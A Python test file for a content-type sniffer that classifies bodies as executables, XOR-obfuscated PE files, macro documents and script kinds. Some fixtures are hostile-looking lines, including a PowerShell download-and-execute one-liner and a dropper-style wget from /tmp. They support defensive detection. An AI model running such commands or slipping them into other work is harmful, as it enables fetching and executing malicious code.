"""Body kinds: what a body begins with decides; the declared type is heard only for plain text."""

from __future__ import annotations

import gzip
import io
import json
import time
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tracehound.protocols.body_kind import EXECUTABLE_KINDS, KIND_BYTES, KINDS, body_kind

PE = b"MZ" + bytes(58) + (0x80).to_bytes(4, "little") + bytes(64) + b"PE\0\0" + bytes(20)


def archive(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name in names:
            file.writestr(name, "x")
    return out.getvalue()


def keyed(data: bytes, key: bytes) -> bytes:
    return bytes(b ^ key[n % len(key)] for n, b in enumerate(data))


SAMPLES = [
    ("pe_xor", keyed(PE, b"\x5a")),
    ("pe_xor", keyed(PE, b"sekr")),
    ("pe_xor", keyed(PE[:70], bytes(range(1, 17)))),
    ("data", keyed(PE, bytes(range(1, 25)))),  # a longer key is not looked for
    ("data", keyed(b"MZ" + bytes(58) + (0x80).to_bytes(4, "little") + bytes(64) + b"NOPE", b"\x99")),
    ("data", b"\x17" * 200),
    ("empty", b""),
    ("pe", PE),
    ("pe", PE[:70]),
    ("dos_exe", b"MZ" + bytes(58) + (0x40).to_bytes(4, "little") + b"NOPE" + bytes(40)),
    ("elf", b"\x7fELF\x01\x01\x01" + bytes(20)),
    ("macho", b"\xcf\xfa\xed\xfe\x07\0\0\x01"),
    ("macho", b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(16)),
    ("class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(16)),
    ("jar", archive("META-INF/MANIFEST.MF", "a.class")),
    ("apk", archive("AndroidManifest.xml", "classes.dex")),
    ("ooxml", archive("[Content_Types].xml", "word/document.xml")),
    ("ooxml_macro", archive("[Content_Types].xml", "word/vbaProject.bin")),
    ("zip", archive("a.txt")),
    ("ole", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(30)),
    ("rtf", b"{\\rtf1\\ansi"),
    ("pdf", b"%PDF-1.4\n"),
    ("pdf", b"\r\n%PDF-1.4\n"),
    ("gif", b"GIF89a\x01\0\x01\0\x80"),
    ("png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
    ("jpeg", b"\xff\xd8\xff\xe0\0\x10JFIF"),
    ("bmp", b"BM" + bytes(12) + (40).to_bytes(4, "little") + bytes(20)),
    ("ico", bytes.fromhex("00000100010010100000010020006804000016000000")),
    ("webp", b"RIFF\x24\0\0\0WEBPVP8 "),
    ("tiff", b"II*\0\x08\0\0\0"),
    ("gzip", gzip.compress(b"x", mtime=0)),
    ("bzip2", b"BZh91AY&SY\0\0"),
    ("xz", b"\xfd7zXZ\0\0\x04"),
    ("zstd", b"\x28\xb5\x2f\xfd\x04\0"),
    ("rar", b"Rar!\x1a\x07\0"),
    ("7z", b"7z\xbc\xaf\x27\x1c\0\x04"),
    ("cab", b"MSCF\0\0\0\0\x10\0"),
    ("swf", b"CWS\x0a\x10\x20\0\0x\xda"),
    ("lnk", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F"),
    ("html", b"<!DOCTYPE html><html>"),
    ("html", b"\r\n <HTML><head>"),
    ("html", b"<!-- comment -->\n<html>"),
    ("html", b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>"),
    ("hta", b"<html><head><HTA:APPLICATION id=x>"),
    ("xml", b"<?xml version='1.0'?><rss/>"),
    ("svg", b"<svg xmlns='http://www.w3.org/2000/svg'>"),
    ("json", b'{"a": 1}'),
    ("json", b'[{"a": 1}, 2]'),
    ("json", b"[1, 2, 3]"),
    ("javascript", b"var a = 1;"),
    ("javascript", b"/* library */\n(function(){"),
    ("javascript", b"// x\nfunction f(a) {"),
    ("css", b"body { color: red }"),
    ("css", b"/* c */ .a, .b > c { margin: 0 }"),
    ("vbs", b"On Error Resume Next\r\nDim x\r\n"),
    ("vbs", b'Set sh = CreateObject("WScript.Shell")\r\n'),
    ("powershell", b"$c = New-Object System.Net.WebClient\n"),
    ("powershell", b"IEX (New-Object Net.WebClient).DownloadString('http://x')"),
    ("powershell", "$a = 'x'\r\n".encode("utf-16-le")),
    ("batch", b"@echo off\r\ncd \\\r\n"),
    ("shell", b"#!/bin/sh\necho\n"),
    ("shell", b"cd /tmp || cd /var/run; wget http://192.0.2.1/x\n"),
    ("python", b"#!/usr/bin/env python3\n"),
    ("python", b"import os\nimport sys\n"),
    ("php", b"<?php echo 1;"),
    ("pem", b"-----BEGIN CERTIFICATE-----\nMIIB"),
    ("text", b"404 not found\n"),
    ("text", b"[2002-08-01 12:00] something happened\n"),
    ("text", "gr\u00fc\u00dfe\n".encode()),
    ("data", bytes(range(256))),
    ("data", b"\x00\x01\x02\x03\x04"),
]


@pytest.mark.parametrize(("kind", "head"), SAMPLES)
def test_samples(kind, head):
    assert body_kind(head) == kind
    assert kind in KINDS


@pytest.mark.parametrize("kind", ["pe", "elf", "zip", "gif"])
def test_the_declared_type_does_not_change_what_the_content_says(kind):
    head = next(h for k, h in SAMPLES if k == kind)
    assert body_kind(head, "audio/x-midi") == body_kind(head, "text/html") == kind


def test_the_declared_type_is_heard_for_plain_text():
    assert body_kind(b"hello", "text/css; charset=utf-8") == "css"
    assert body_kind(b"hello", "Application/JavaScript") == "javascript"
    assert body_kind(b"hello", "application/octet-stream") == "text"
    assert body_kind(b"hello\0", "text/css") == "data"


def test_every_executable_kind_is_documented():
    assert set(KINDS) >= EXECUTABLE_KINDS
    assert {"pe", "elf", "lnk", "vbs"} <= EXECUTABLE_KINDS
    assert not EXECUTABLE_KINDS & {"html", "gif", "text", "data", "javascript"}


@given(st.binary(max_size=600), st.none() | st.text(max_size=30))
def test_any_bytes(head, declared):
    assert body_kind(head, declared) in KINDS


@given(st.text(max_size=400))
def test_any_text(text):
    assert body_kind(text.encode("utf-8", "replace")) in KINDS


@given(st.dictionaries(st.text("abc", min_size=1), st.integers() | st.text(), min_size=1))
def test_any_json_object(value):
    assert body_kind(json.dumps(value).encode()) == "json"


@pytest.mark.parametrize("unit", [b"a ", b".a", b"(", b"/*", b"<!--", b"$a", b"[", b'"', b"// \n", b" ", b"-a:"])
def test_hostile_text_costs_little(unit):
    begin = time.perf_counter()
    body_kind((unit * KIND_BYTES)[:KIND_BYTES])
    assert time.perf_counter() - begin < 0.5
